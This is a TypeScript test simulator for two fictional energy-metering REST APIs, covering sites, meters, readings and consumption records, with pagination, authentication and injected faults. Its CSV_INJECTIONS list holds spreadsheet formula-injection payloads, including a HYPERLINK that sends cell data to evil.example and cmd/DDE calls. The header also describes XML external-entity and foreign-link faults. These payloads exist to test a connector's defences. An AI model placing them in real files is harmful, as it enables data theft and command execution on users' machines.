/**
 * Two generic REST providers for the configuration-driven connector. Neither is a real product: they
 * are shaped after the styles the platform API integration requirements says a provider may use, and
 * deliberately differ from each other in every dimension the connector configuration covers.
 *
 * ── Provider A: startGenericJsonSimulator ────────────────────────────────────────────────────────
 * JSON, offset/limit pagination, API key in the query string, cumulative register READINGS with local
 * timestamps WITHOUT offset (documented zone: `timeZone` option, default Europe/Helsinki).
 *   Auth: ?api_key=<key> on every request (missing/wrong → 401 {"error":"unauthorized","message":...}).
 *   GET /api/sites?offset=0&limit=100
 *   GET /api/meters?offset=0&limit=100[&site_id=SITE-0001]
 *   GET /api/meters/{meter_id}/readings?from=YYYY-MM-DD&to=YYYY-MM-DD&offset=0&limit=500
 *     → {"data":[...], "meta":{"offset":0,"limit":100,"total":57}}
 *   limit: 1..1000 (default 100 for sites/meters, 500 for readings); offset ≥ 0; past the end → empty data.
 *   Site:    {"site_id":"SITE-0001","name":"...","address":"Mannerheimintie 1, 00100 Helsinki","region":"Uusimaa",
 *             "portfolio":"Portfolio A","gross_area_m2":5230}
 *   Meter:   {"meter_id":"M-000101","site_id":"SITE-0001","commodity":"electricity"|"district_heat"|"water"|"natural_gas",
 *             "unit":"kWh"|"GJ"|"m3","serial_number":"...","description":"...","register_digits":7,
 *             "reading_interval_minutes":60}
 *   Reading: {"meter_id":"M-000101","read_at":"2024-10-27T03:00:00","value":123456.789,"estimated":false}
 *   - from/to are local calendar dates, BOTH inclusive; to - from + 1 ≤ maxRangeDays (default 31) else 400.
 *     A reading belongs to the local date of its read_at. Readings are ordered by instant.
 *   - read_at is local wall-clock time without offset: in the autumn DST change one local hour repeats
 *     (e.g. two readings at 2024-10-27T03:00:00 in Helsinki, the first EEST then EET; order tells them
 *     apart); in spring one local hour is skipped.
 *   - value is the register stand at read_at (cumulative). A reading is absent when the provider has a
 *     gap in the interval before it; `estimated` marks estimated stands.
 *   - Meter resets: some meters are REPLACED mid-year (at the reset instant the reading is the new
 *     meter's 0 and it counts up from there); some ROLL OVER at 10^register_digits (value wraps to 0).
 *     truth().meters[i].reset says which, and when.
 *
 * ── Provider B: startGenericXmlCsvSimulator ──────────────────────────────────────────────────────
 * XML or CSV (both served: ?format=xml|csv, else the Accept header text/csv / application/xml, else
 * the `format` option), cursor or RFC 8288 Link-header pagination (`pagination` option), HTTP Basic or
 * OAuth2 password grant (`auth` option), CONSUMPTION records with ISO 8601 offsets, daily and monthly.
 *   Auth basic:  Authorization: Basic base64(username:password) → else 401 + WWW-Authenticate: Basic.
 *   Auth oauth2: POST /oauth/token (form) grant_type=password&username&password&client_id&client_secret
 *                → JSON {"access_token","token_type":"Bearer","expires_in","refresh_token","scope":"read"};
 *                grant_type=refresh_token&refresh_token=...&client_id&client_secret → a new pair.
 *                Errors JSON {"error":"invalid_grant"|"invalid_client"|"unsupported_grant_type", "error_description"}.
 *                Data endpoints: Authorization: Bearer <token> (missing/expired → 401).
 *   GET /v2/buildings?page_size=100[&page_token=...]
 *   GET /v2/meters?page_size=100[&building_id=B-101][&page_token=...]
 *   GET /v2/consumption?meter_id=EM-1001&granularity=daily|monthly&start_date=YYYY-MM-DD&end_date=YYYY-MM-DD
 *     start_date inclusive, end_date EXCLUSIVE (local dates of the meter's zone); for monthly both must be
 *     the 1st of a month. Max range: daily 366 days, monthly 60 months → else 400.
 *   page_size 1..500 (default 100).
 *   Pagination:
 *     cursor: XML has <NextPageToken>…</NextPageToken> (absent on the last page); CSV has the response
 *             header X-Next-Page-Token. Pass it back as page_token with the SAME other parameters
 *             (a token used with other parameters, or garbled → 400).
 *     link:   Link: <absolute URL of the next page>; rel="next" (absent on the last page), for both
 *             formats; the URL carries page_token and all other parameters.
 *   XML:  <?xml version="1.0" encoding="UTF-8"?>
 *         <Buildings><Building><Id>B-101</Id><Name>…</Name><Street>…</Street><PostalCode>…</PostalCode>
 *           <City>…</City><Country>FI</Country><Portfolio>…</Portfolio></Building>…<NextPageToken>…</NextPageToken></Buildings>
 *         <Meters><Meter><Id>EM-1001</Id><BuildingId>B-101</BuildingId><Medium>Electricity|Heat|Water|Gas</Medium>
 *           <Unit>kWh|MWh|m³</Unit><TimeZone>Europe/Berlin</TimeZone><Description>…</Description></Meter>…</Meters>
 *         <ConsumptionRecords><Record><MeterId>EM-1001</MeterId><PeriodStart>2024-03-31T00:00:00+01:00</PeriodStart>
 *           <PeriodEnd>2024-04-01T00:00:00+02:00</PeriodEnd><Consumption>123.456</Consumption><Unit>kWh</Unit>
 *           <Redelivery>12.345</Redelivery><Estimated>false</Estimated><Cost>21.34</Cost><Currency>EUR</Currency>
 *         </Record>…</ConsumptionRecords>
 *         Redelivery only for meters with solar; Cost/Currency for electricity and heat only.
 *   CSV:  RFC 4180, comma separated, header row; columns (same order always):
 *         buildings:   id,name,street,postal_code,city,country,portfolio
 *         meters:      id,building_id,medium,unit,time_zone,description
 *         consumption: meter_id,period_start,period_end,consumption,unit,redelivery,estimated,cost,currency
 *         (empty cell = absent value)
 *   Errors: status + text/plain body (both formats).
 *   Records cover local days / local months in the meter's zone (DST days are 23 h / 25 h and the two
 *   offsets differ); daily values are complete totals (provider-filled gaps are flagged estimated).
 *
 * Faults beyond the common ones: duplicateAcrossPages, shiftDuringPaging (A: a meter inserted at the head
 * of /api/meters after a first page; B: a building inserted at the head of /v2/buildings),
 * foreignNextLink (B link mode: the next URL points to another origin), repeatedCursor (B: the next
 * token/URL equals the current one), xmlDoctype (B XML: DOCTYPE with an external entity referenced in a
 * name), csvInjection (B CSV: text cells starting with = + - @).
 */
import {
  applyRecordFaults,
  json,
  text,
  header,
  intParam,
  FaultController,
  StatsCounter,
  startSimServer,
} from './common/http.js';
import type {
  CommonFaults,
  FaultSwitch,
  JsonRecord,
  SimRequest,
  SimResponse,
  SimStats,
} from './common/http.js';
import { TokenStore } from './common/tokens.js';
import { DayCache, dayTotal, roundTo } from './common/load.js';
import type { Commodity, DaySeries, MeterModel } from './common/load.js';
import { hexId, pick, randInt, randRange, rngFor } from './common/prng.js';
import { BUILDINGS, buildingName, placeFor, postalFor, streetFor } from './common/places.js';
import {
  QUARTER_MS,
  addDays,
  addMonths,
  daysBetween,
  formatLocalNoOffset,
  formatZoned,
  isYmd,
  localDate,
  localDatesCovering,
  localMidnight,
  parseYmd,
} from './common/time.js';

// =================================================================================================
// Shared

export interface GenericFaults extends CommonFaults {
  duplicateAcrossPages?: FaultSwitch;
  shiftDuringPaging?: FaultSwitch;
  foreignNextLink?: FaultSwitch<{ origin?: string }>;
  repeatedCursor?: FaultSwitch;
  xmlDoctype?: FaultSwitch;
  csvInjection?: FaultSwitch;
}

export interface GenericSimulatorBase {
  url: string;
  close(): Promise<void>;
  stats(): SimStats;
  resetStats(): void;
  setFaults(faults: GenericFaults): void;
}

interface CommodityInfo {
  commodity: Commodity;
  decimals: number;
}

// =================================================================================================
// Provider A

export interface GenericJsonOptions {
  seed?: number;
  sites?: number;
  /** Meters per site, min and max (default [1, 4]). */
  metersPerSite?: [number, number];
  /** First local day of data (default '2024-01-01'). */
  from?: string;
  days?: number;
  /** The documented provider time zone of all read_at values (default Europe/Helsinki). */
  timeZone?: string;
  apiKey?: string;
  maxRangeDays?: number;
  /** Minutes between readings: 15, 60 or 1440 (daily, at local midnight). Default 60. */
  readingIntervalMinutes?: 15 | 60 | 1440;
  /** Share of meters replaced mid-year / rolling over (defaults 0.15 / 0.1). */
  replacementShare?: number;
  rolloverShare?: number;
  gapRate?: number;
  estimateRate?: number;
  faults?: GenericFaults;
}

export interface GenericJsonSiteTruth {
  site_id: string;
  name: string;
  address: string;
  region: string;
  portfolio: string;
  gross_area_m2: number;
}

export interface GenericJsonMeterTruth {
  meter_id: string;
  site_id: string;
  commodity: 'electricity' | 'district_heat' | 'water' | 'natural_gas';
  unit: 'kWh' | 'GJ' | 'm3';
  serial_number: string;
  description: string;
  register_digits: number;
  reading_interval_minutes: number;
  timeZone: string;
  /** Register stand at dataStart. */
  initialRegister: number;
  reset: { kind: 'replacement'; at: number } | { kind: 'rollover'; at: number } | null;
  dataStart: number;
  dataEnd: number;
  model: MeterModel;
}

export interface GenericReading {
  meter_id: string;
  /** Instant of the reading. */
  at: number;
  read_at: string;
  value: number;
  estimated: boolean;
}

export interface GenericJsonTruth {
  sites: GenericJsonSiteTruth[];
  meters: GenericJsonMeterTruth[];
  meter(id: string): GenericJsonMeterTruth | undefined;
  /** Readings the API reports for local dates [fromDate, toDate] (inclusive). */
  readings(meterId: string, fromDate: string, toDate: string): GenericReading[];
  /** Consumption per quarter-hour (all quarters, also those whose reading is missing). */
  day(meterId: string, date: string): DaySeries;
  /** Total consumption in [from, to) instants, exact to the unit resolution. */
  consumption(meterId: string, from: number, to: number): number;
}

export interface GenericJsonSimulator extends GenericSimulatorBase {
  truth(): GenericJsonTruth;
  /** The valid api_key. */
  apiKey: string;
}

const A_COMMODITIES: Record<
  GenericJsonMeterTruth['commodity'],
  CommodityInfo & { unit: GenericJsonMeterTruth['unit'] }
> = {
  electricity: { commodity: 'electricity', decimals: 3, unit: 'kWh' },
  district_heat: { commodity: 'heat', decimals: 4, unit: 'GJ' },
  water: { commodity: 'water', decimals: 3, unit: 'm3' },
  natural_gas: { commodity: 'gas', decimals: 3, unit: 'm3' },
};

/** invalidRecords variants for provider A readings. */
const A_CORRUPT: Array<(r: JsonRecord) => JsonRecord> = [
  (r) => ({ ...r, value: 'n/a' }),
  (r) => ({ ...r, read_at: String(r.read_at).replace(/^(\d{4})-\d\d-\d\dT\d\d/, '$1-02-30T25') }), // impossible date
  (r) => ({ ...r, value: -Math.abs(Number(r.value)) - 1 }),
  (r) => {
    const { meter_id: _m, ...rest } = r;
    return rest;
  },
];

/** invalidRecords variants for provider B consumption records. */
const B_CORRUPT: Array<(r: JsonRecord) => JsonRecord> = [
  (r) => ({ ...r, period_start: r.period_end, period_end: r.period_start }), // end before start
  (r) => ({ ...r, consumption: 'n/a' }),
  (r) => ({ ...r, cost: 12.5, currency: null }), // cost without currency
  (r) => ({ ...r, period_start: String(r.period_start).slice(0, 19) }), // no offset
];

function offsetPage<T>(
  items: T[],
  req: SimRequest,
  faults: FaultController<GenericFaults>,
  defaultLimit: number,
): { data: T[]; meta: { offset: number; limit: number; total: number } } | SimResponse {
  const offset = intParam(req.query, 'offset') ?? 0;
  const limit = intParam(req.query, 'limit') ?? defaultLimit;
  if (!Number.isInteger(offset) || offset < 0)
    return json(400, { error: 'bad_request', message: 'offset must be a non-negative integer' });
  if (!Number.isInteger(limit) || limit < 1 || limit > 1000)
    return json(400, { error: 'bad_request', message: 'limit must be between 1 and 1000' });
  let start = offset;
  if (offset > 0 && faults.take('duplicateAcrossPages', req.endpoint)) start = offset - 1;
  return { data: items.slice(start, offset + limit), meta: { offset, limit, total: items.length } };
}

export async function startGenericJsonSimulator(
  opts: GenericJsonOptions = {},
): Promise<GenericJsonSimulator> {
  const seed = opts.seed ?? 1;
  const from = opts.from ?? '2024-01-01';
  if (!isYmd(from)) throw new Error(`from must be YYYY-MM-DD: ${from}`);
  const days = opts.days ?? 365;
  const tz = opts.timeZone ?? 'Europe/Helsinki';
  const apiKey = opts.apiKey ?? 'gen-a-' + hexId(rngFor(seed, 'a-key'), 20);
  const maxRange = opts.maxRangeDays ?? 31;
  const every = opts.readingIntervalMinutes ?? 60;
  const [minM, maxM] = opts.metersPerSite ?? [1, 4];
  const cache = new DayCache(seed, 2048);
  const dataStart = localMidnight(tz, from);
  const dataEnd = localMidnight(tz, addDays(from, days));

  const sites: GenericJsonSiteTruth[] = [];
  const meters: GenericJsonMeterTruth[] = [];
  let meterSeq = 101;
  const makeMeter = (
    site: GenericJsonSiteTruth,
    k: number,
    building: MeterModel['building'],
    area: number,
    lat: number,
    lon: number,
  ): GenericJsonMeterTruth => {
    const r = rngFor(seed, 'a-meter', site.site_id, k);
    const kinds: Array<GenericJsonMeterTruth['commodity']> = [
      'electricity',
      'district_heat',
      'water',
      'natural_gas',
      'electricity',
    ];
    const commodity = kinds[k % kinds.length] as GenericJsonMeterTruth['commodity'];
    const info = A_COMMODITIES[commodity];
    const perM2 = { electricity: 0.012, heat: 0.02, cooling: 0.01, water: 0.00012, gas: 0.015 }[
      info.commodity
    ];
    const id = `M-${String(meterSeq++).padStart(6, '0')}`;
    const model: MeterModel = {
      key: `a-${id}`,
      commodity: info.commodity,
      unit: info.unit,
      decimals: info.decimals,
      timeZone: tz,
      building,
      size: area * perM2 * randRange(r, 0.6, 1.3),
      latitude: lat,
      longitude: lon,
      solarKwp: 0,
      resolutionMinutes: 15,
      gapRate: opts.gapRate ?? 0.02,
      estimateRate: opts.estimateRate ?? 0.02,
    };
    const u = r();
    const replacement = u < (opts.replacementShare ?? 0.15);
    const rollover = !replacement && u < (opts.replacementShare ?? 0.15) + (opts.rolloverShare ?? 0.1);
    const hours = Math.floor((dataEnd - dataStart) / 3_600_000);
    const resetAt = dataStart + randInt(r, Math.floor(hours * 0.2), Math.floor(hours * 0.8)) * 3_600_000;
    const digits = rollover ? 5 : randInt(r, 8, 9); // rollover meters get theirs below
    return {
      meter_id: id,
      site_id: site.site_id,
      commodity,
      unit: info.unit,
      serial_number: `${commodity.slice(0, 2).toUpperCase()}${hexId(r, 8).toUpperCase()}`,
      description: `${site.name} ${commodity.replace('_', ' ')} ${k + 1}`,
      register_digits: digits,
      reading_interval_minutes: every,
      timeZone: tz,
      initialRegister: rollover
        ? Number.NaN
        : roundTo(randRange(r, 100, 0.002 * 10 ** digits), info.decimals),
      reset: replacement
        ? { kind: 'replacement', at: resetAt }
        : rollover
          ? { kind: 'rollover', at: resetAt }
          : null,
      dataStart,
      dataEnd,
      model,
    };
  };
  const nSites = opts.sites ?? 10;
  const makeSite = (
    i: number,
  ): { site: GenericJsonSiteTruth; building: MeterModel['building']; lat: number; lon: number } => {
    const r = rngFor(seed, 'a-site', i);
    const place = placeFor(r, tz);
    const building = pick(r, BUILDINGS);
    const name = buildingName(r, building, place.city);
    return {
      site: {
        site_id: `SITE-${String(i + 1).padStart(4, '0')}`,
        name,
        address: `${streetFor(r, place)}, ${postalFor(r, place)} ${place.city}`,
        region: place.state,
        portfolio: `Portfolio ${String.fromCharCode(65 + (i % 3))}`,
        gross_area_m2: randInt(r, 600, 20000),
      },
      building,
      lat: place.latitude,
      lon: place.longitude,
    };
  };
  for (let i = 0; i < nSites; i++) {
    const { site, building, lat, lon } = makeSite(i);
    sites.push(site);
    const n = randInt(rngFor(seed, 'a-site-n', i), minM, maxM);
    for (let k = 0; k < n; k++) meters.push(makeMeter(site, k, building, site.gross_area_m2, lat, lon));
  }
  // At least one replaced and one rolling-over meter whenever there are enough meters.
  const hours = Math.floor((dataEnd - dataStart) / 3_600_000);
  const forceReset = (m: GenericJsonMeterTruth | undefined, kind: 'replacement' | 'rollover'): void => {
    if (!m || m.reset) return;
    m.reset = { kind, at: dataStart + Math.floor(hours * (kind === 'replacement' ? 0.45 : 0.6)) * 3_600_000 };
    if (kind === 'rollover') m.initialRegister = Number.NaN;
  };
  if (meters.length >= 4) {
    if (!meters.some((m) => m.reset?.kind === 'replacement'))
      forceReset(
        meters.find((m, i) => i >= 1 && !m.reset),
        'replacement',
      );
    if (!meters.some((m) => m.reset?.kind === 'rollover'))
      forceReset(
        meters.find((m, i) => i >= 2 && !m.reset),
        'rollover',
      );
  }
  const byId = new Map(meters.map((m) => [m.meter_id, m]));

  // ---- registers: exact integer arithmetic in units of 10^-decimals
  const dayStartCum = new Map<string, number[]>(); // meter → cumulative (scaled ints) at start of day i
  const scale = (m: GenericJsonMeterTruth): number => 10 ** m.model.decimals;
  const dayTotalScaled = (m: GenericJsonMeterTruth, date: string): number => {
    const d = cache.get(m.model, date);
    const f = scale(m);
    let s = 0;
    for (let i = 0; i < d.n; i++) s += Math.round((d.imp[i] as number) * f);
    return s;
  };
  /** Scaled consumption from dataStart to t (t on a quarter boundary within the data). */
  const cumAt = (m: GenericJsonMeterTruth, t: number): number => {
    const date = localDate(tz, Math.min(t, dataEnd - 1));
    const idx = daysBetween(from, date);
    let arr = dayStartCum.get(m.meter_id);
    if (!arr) {
      arr = [0];
      dayStartCum.set(m.meter_id, arr);
    }
    while (arr.length <= idx)
      arr.push((arr[arr.length - 1] as number) + dayTotalScaled(m, addDays(from, arr.length - 1)));
    let s = arr[idx] as number;
    const d = cache.get(m.model, date);
    const f = scale(m);
    for (let i = 0; i < d.n && d.start + i * QUARTER_MS < t; i++) s += Math.round((d.imp[i] as number) * f);
    return s;
  };
  const initialScaled = (m: GenericJsonMeterTruth): number => Math.round(m.initialRegister * scale(m));
  /**
   * Rolling-over meters: register_digits is the smallest (≥ 5) with 10^digits above the year's
   * consumption, and the start stand is chosen so the register wraps exactly once, in the hour
   * before reset.at.
   */
  const initRollover = (m: GenericJsonMeterTruth): void => {
    if (m.reset?.kind !== 'rollover') return;
    const total = cumAt(m, m.dataEnd);
    m.register_digits = Math.max(5, Math.ceil(Math.log10(total / scale(m) + 1) + 0.05));
    const mod = 10 ** m.register_digits * scale(m);
    const init = mod - Math.round((cumAt(m, m.reset.at) + cumAt(m, m.reset.at - 3_600_000)) / 2);
    m.initialRegister = init / scale(m);
  };
  meters.forEach(initRollover);
  const registerAt = (m: GenericJsonMeterTruth, t: number): number => {
    const f = scale(m);
    const cum = cumAt(m, t);
    if (m.reset?.kind === 'replacement' && t >= m.reset.at) return (cum - cumAt(m, m.reset.at)) / f;
    const v = initialScaled(m) + cum;
    const mod = 10 ** m.register_digits * f;
    return (((v % mod) + mod) % mod) / f;
  };
  /** Reading instants whose local date is in [fromDate, toDate], within [dataStart, dataEnd] (both inclusive). */
  const readingTimes = (m: GenericJsonMeterTruth, fromDate: string, toDate: string): number[] => {
    const out: number[] = [];
    if (every === 1440) {
      for (let d = fromDate; d <= toDate; d = addDays(d, 1)) {
        const t = localMidnight(tz, d);
        if (t >= m.dataStart && t <= m.dataEnd) out.push(t);
      }
      return out;
    }
    const a = Math.max(localMidnight(tz, fromDate), m.dataStart);
    const b = Math.min(localMidnight(tz, addDays(toDate, 1)), m.dataEnd + 1);
    const step = every * 60_000;
    for (let t = Math.ceil((a - m.dataStart) / step) * step + m.dataStart; t < b; t += step) out.push(t);
    return out;
  };
  const readings = (m: GenericJsonMeterTruth, fromDate: string, toDate: string): GenericReading[] => {
    const out: GenericReading[] = [];
    for (const t of readingTimes(m, fromDate, toDate)) {
      // Quality of the interval before t.
      const prevStart = every === 1440 ? t - 24 * 3_600_000 : t - every * 60_000;
      let missing = false;
      let est = false;
      if (t > m.dataStart) {
        for (const date of localDatesCovering(tz, Math.max(prevStart, m.dataStart), t)) {
          const d = cache.get(m.model, date);
          for (let i = 0; i < d.n; i++) {
            const s = d.start + i * QUARTER_MS;
            if (s < prevStart || s >= t) continue;
            if (d.missing[i]) missing = true;
            if (d.estimated[i]) est = true;
          }
        }
      }
      if (missing) continue;
      out.push({
        meter_id: m.meter_id,
        at: t,
        read_at: formatLocalNoOffset(t, tz),
        value: roundTo(registerAt(m, t), m.model.decimals),
        estimated: est,
      });
    }
    return out;
  };

  const truth: GenericJsonTruth = {
    sites,
    meters,
    meter: (id) => byId.get(id),
    readings: (id, a, b) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      return readings(m, a, b);
    },
    day: (id, date) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      return cache.get(m.model, date);
    },
    consumption: (id, a, b) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      const lo = Math.max(a, m.dataStart);
      const hi = Math.min(b, m.dataEnd);
      return hi <= lo ? 0 : (cumAt(m, hi) - cumAt(m, lo)) / scale(m);
    },
  };

  // ---- server
  const stats = new StatsCounter();
  const faults = new FaultController<GenericFaults>(opts.faults, stats);
  const siteOrder = [...sites];
  const meterOrder = [...meters];
  let inserted = 0;
  const unauthorized = (req: SimRequest): SimResponse | null => {
    const k = req.query.get('api_key');
    if (!k) return json(401, { error: 'unauthorized', message: 'api_key query parameter is required' });
    if (k !== apiKey) return json(401, { error: 'unauthorized', message: 'invalid api_key' });
    return null;
  };
  const meterJson = (m: GenericJsonMeterTruth): Record<string, unknown> => ({
    meter_id: m.meter_id,
    site_id: m.site_id,
    commodity: m.commodity,
    unit: m.unit,
    serial_number: m.serial_number,
    description: m.description,
    register_digits: m.register_digits,
    reading_interval_minutes: m.reading_interval_minutes,
  });

  const server = await startSimServer<GenericFaults>({
    stats,
    faults,
    routes: [
      {
        method: 'GET',
        path: '/api/sites',
        endpoint: 'sites',
        handler: (req) => {
          const u = unauthorized(req);
          if (u) return u;
          const p = offsetPage(siteOrder, req, faults, 100);
          return 'status' in p ? p : json(200, p);
        },
      },
      {
        method: 'GET',
        path: '/api/meters',
        endpoint: 'meters',
        handler: (req) => {
          const u = unauthorized(req);
          if (u) return u;
          const site = req.query.get('site_id');
          const list = site ? meterOrder.filter((m) => m.site_id === site) : meterOrder;
          const p = offsetPage(list, req, faults, 100);
          if ('status' in p) return p;
          const body = json(200, { data: p.data.map(meterJson), meta: p.meta });
          if (p.meta.offset === 0 && faults.take('shiftDuringPaging', req.endpoint)) {
            inserted++;
            const s = sites[0] as GenericJsonSiteTruth;
            const m = makeMeter(s, 100 + inserted, 'office', s.gross_area_m2, 60.2, 24.9);
            meters.push(m);
            byId.set(m.meter_id, m);
            initRollover(m);
            meterOrder.unshift(m);
          }
          return body;
        },
      },
      {
        method: 'GET',
        path: '/api/meters/:id/readings',
        endpoint: 'readings',
        handler: (req) => {
          const u = unauthorized(req);
          if (u) return u;
          const m = byId.get(req.params.id ?? '');
          if (!m) return json(404, { error: 'not_found', message: `meter ${req.params.id} not found` });
          const f = req.query.get('from');
          const t = req.query.get('to');
          if (!f || !t)
            return json(400, { error: 'bad_request', message: 'from and to (YYYY-MM-DD) are required' });
          if (!isYmd(f) || !isYmd(t))
            return json(400, { error: 'bad_request', message: 'from and to must be YYYY-MM-DD' });
          const span = daysBetween(f, t) + 1;
          if (span < 1) return json(400, { error: 'bad_request', message: 'to must not be before from' });
          if (span > maxRange)
            return json(400, { error: 'bad_request', message: `date range exceeds ${maxRange} days` });
          const p = offsetPage(readings(m, f, t), req, faults, 500);
          if ('status' in p) return p;
          return json(200, {
            data: applyRecordFaults(
              p.data.map((r) => ({
                meter_id: r.meter_id,
                read_at: r.read_at,
                value: r.value,
                estimated: r.estimated,
              })),
              faults,
              req.endpoint,
              A_CORRUPT,
            ),
            meta: p.meta,
          });
        },
      },
    ],
  });

  return {
    url: server.url,
    close: () => server.close(),
    stats: () => stats.snapshot(),
    resetStats: () => stats.reset(),
    setFaults: (f) => faults.set(f),
    truth: () => truth,
    apiKey,
  };
}

// =================================================================================================
// Provider B

export interface GenericXmlCsvOptions {
  seed?: number;
  buildings?: number;
  metersPerBuilding?: [number, number];
  from?: string;
  days?: number;
  timeZones?: string[];
  /** Default response format when neither ?format nor Accept chooses (default 'xml'). */
  format?: 'xml' | 'csv';
  pagination?: 'cursor' | 'link';
  auth?: 'basic' | 'oauth2-password';
  username?: string;
  password?: string;
  clientId?: string;
  clientSecret?: string;
  tokenLifetimeSeconds?: number;
  solarShare?: number;
  gapRate?: number;
  estimateRate?: number;
  now?: () => number;
  faults?: GenericFaults;
}

export interface GenericXmlCsvBuildingTruth {
  id: string;
  name: string;
  street: string;
  postal_code: string;
  city: string;
  country: string;
  portfolio: string;
}

export interface GenericXmlCsvMeterTruth {
  id: string;
  building_id: string;
  medium: 'Electricity' | 'Heat' | 'Water' | 'Gas';
  unit: 'kWh' | 'MWh' | 'm³';
  time_zone: string;
  description: string;
  hasSolar: boolean;
  /** Price per unit in EUR (cost = round2(consumption × price)); null when no cost is reported. */
  price: number | null;
  dataStart: number;
  dataEnd: number;
  model: MeterModel;
}

export interface ConsumptionRecord {
  meter_id: string;
  start: number;
  end: number;
  period_start: string;
  period_end: string;
  consumption: number;
  unit: string;
  redelivery: number | null;
  estimated: boolean;
  cost: number | null;
  currency: string | null;
}

export interface GenericXmlCsvTruth {
  buildings: GenericXmlCsvBuildingTruth[];
  meters: GenericXmlCsvMeterTruth[];
  meter(id: string): GenericXmlCsvMeterTruth | undefined;
  /** Records for local dates [startDate, endDate) (daily), or months starting in that range (monthly). */
  consumption(
    meterId: string,
    granularity: 'daily' | 'monthly',
    startDate: string,
    endDate: string,
  ): ConsumptionRecord[];
  day(meterId: string, date: string): DaySeries;
}

export interface GenericXmlCsvSimulator extends GenericSimulatorBase {
  truth(): GenericXmlCsvTruth;
  /** Expire every access token issued so far (oauth2-password mode). */
  expireTokens(): void;
  /** Valid credentials (Basic: username/password; OAuth2 password grant: all four). */
  credentials: { username: string; password: string; clientId: string; clientSecret: string };
}

const B_MEDIUM: Record<
  GenericXmlCsvMeterTruth['medium'],
  CommodityInfo & { unit: GenericXmlCsvMeterTruth['unit']; price: number | null }
> = {
  Electricity: { commodity: 'electricity', decimals: 3, unit: 'kWh', price: 0.18 },
  Heat: { commodity: 'heat', decimals: 6, unit: 'MWh', price: 85 },
  Water: { commodity: 'water', decimals: 3, unit: 'm³', price: null },
  Gas: { commodity: 'gas', decimals: 3, unit: 'm³', price: null },
};

export function xmlEscape(s: string): string {
  return s
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;');
}

export function csvCell(v: string | number | boolean | null): string {
  if (v === null) return '';
  const s = String(v);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

type Row = Record<string, string | number | boolean | null>;

const CSV_INJECTIONS = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

export async function startGenericXmlCsvSimulator(
  opts: GenericXmlCsvOptions = {},
): Promise<GenericXmlCsvSimulator> {
  const seed = opts.seed ?? 1;
  const from = opts.from ?? '2024-01-01';
  if (!isYmd(from)) throw new Error(`from must be YYYY-MM-DD: ${from}`);
  const days = opts.days ?? 365;
  const timeZones = opts.timeZones ?? ['Europe/Berlin', 'Europe/Helsinki', 'America/New_York', 'UTC'];
  const defaultFormat = opts.format ?? 'xml';
  const pagination = opts.pagination ?? 'cursor';
  const auth = opts.auth ?? 'basic';
  const username = opts.username ?? 'meterflow';
  const password = opts.password ?? 'b-password-' + hexId(rngFor(seed, 'b-pw'), 12);
  const clientId = opts.clientId ?? 'b-client';
  const clientSecret = opts.clientSecret ?? 'b-secret-' + hexId(rngFor(seed, 'b-cs'), 12);
  const lifetime = opts.tokenLifetimeSeconds ?? 900;
  const now = opts.now ?? Date.now;
  const [minM, maxM] = opts.metersPerBuilding ?? [1, 3];
  const cache = new DayCache(seed, 2048);

  const buildings: GenericXmlCsvBuildingTruth[] = [];
  const meters: GenericXmlCsvMeterTruth[] = [];
  let meterSeq = 1001;
  const makeBuilding = (
    i: number,
  ): {
    b: GenericXmlCsvBuildingTruth;
    tz: string;
    building: MeterModel['building'];
    lat: number;
    lon: number;
  } => {
    const r = rngFor(seed, 'b-building', i);
    const tz = timeZones[i % timeZones.length] as string;
    const place = placeFor(r, tz);
    const building = pick(r, BUILDINGS);
    return {
      b: {
        id: `B-${101 + i}`,
        name: buildingName(r, building, place.city),
        street: streetFor(r, place),
        postal_code: postalFor(r, place),
        city: place.city,
        country: place.country,
        portfolio: pick(r, ['Core', 'Value-add', 'Opportunistic']),
      },
      tz,
      building,
      lat: place.latitude,
      lon: place.longitude,
    };
  };
  const addMeters = (i: number, x: ReturnType<typeof makeBuilding>, count: number): void => {
    const media: Array<GenericXmlCsvMeterTruth['medium']> = ['Electricity', 'Heat', 'Water', 'Gas'];
    for (let k = 0; k < count; k++) {
      const r = rngFor(seed, 'b-meter', i, k);
      const medium = media[k % media.length] as GenericXmlCsvMeterTruth['medium'];
      const info = B_MEDIUM[medium];
      const hasSolar = medium === 'Electricity' && r() < (opts.solarShare ?? 0.4);
      const size = {
        electricity: randRange(r, 20, 300),
        heat: randRange(r, 30, 400),
        cooling: 50,
        water: randRange(r, 0.3, 3),
        gas: randRange(r, 30, 300),
      }[info.commodity];
      const id = `EM-${meterSeq++}`;
      meters.push({
        id,
        building_id: x.b.id,
        medium,
        unit: info.unit,
        time_zone: x.tz,
        description: `${medium} meter ${k + 1} of ${x.b.name}`,
        hasSolar,
        price: info.price,
        dataStart: localMidnight(x.tz, from),
        dataEnd: localMidnight(x.tz, addDays(from, days)),
        model: {
          key: `b-${id}`,
          commodity: info.commodity,
          unit: info.unit,
          decimals: info.decimals,
          timeZone: x.tz,
          building: x.building,
          size,
          latitude: x.lat,
          longitude: x.lon,
          solarKwp: hasSolar ? Math.round(size * randRange(r, 0.5, 1.5)) : 0,
          resolutionMinutes: 15,
          gapRate: opts.gapRate ?? 0.02,
          estimateRate: opts.estimateRate ?? 0.01,
        },
      });
    }
  };
  const nBuildings = opts.buildings ?? 12;
  for (let i = 0; i < nBuildings; i++) {
    const x = makeBuilding(i);
    buildings.push(x.b);
    addMeters(i, x, randInt(rngFor(seed, 'b-building-n', i), minM, maxM));
  }
  const byId = new Map(meters.map((m) => [m.id, m]));

  const record = (
    m: GenericXmlCsvMeterTruth,
    start: number,
    end: number,
    imp: number,
    exp: number | null,
    est: boolean,
  ): ConsumptionRecord => ({
    meter_id: m.id,
    start,
    end,
    period_start: formatZoned(start, m.time_zone),
    period_end: formatZoned(end, m.time_zone),
    consumption: imp,
    unit: m.unit,
    redelivery: m.hasSolar ? exp : null,
    estimated: est,
    cost: m.price === null ? null : roundTo(imp * m.price, 2),
    currency: m.price === null ? null : 'EUR',
  });
